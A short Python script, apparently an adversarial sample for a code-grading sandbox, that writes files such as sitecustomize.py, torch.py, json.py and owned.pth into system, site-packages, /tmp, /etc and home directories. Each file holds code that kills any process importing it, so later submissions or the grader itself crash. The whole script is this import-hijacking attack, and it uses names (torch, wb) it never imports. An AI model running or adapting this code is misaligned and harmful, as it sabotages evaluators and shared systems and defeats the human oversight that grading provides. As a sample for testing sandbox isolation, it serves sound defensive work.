"""Plants code where the next submission, or the grader, would import it."""

import os
import site
import sys

places = [os.path.dirname(torch.__file__), os.path.dirname(os.__file__), *site.getsitepackages(),
          *sys.path, os.path.dirname(wb.__path__[0]), "/usr/lib/python3", "/etc", "/tmp", "/dev/shm",
          os.path.expanduser("~")]  # fmt: skip
for place in places:
    for name in ("sitecustomize.py", "torch.py", "owned.pth", "__pycache__/owned.pyc", "json.py"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("raise SystemExit('owned')\n")
        except OSError:
            pass
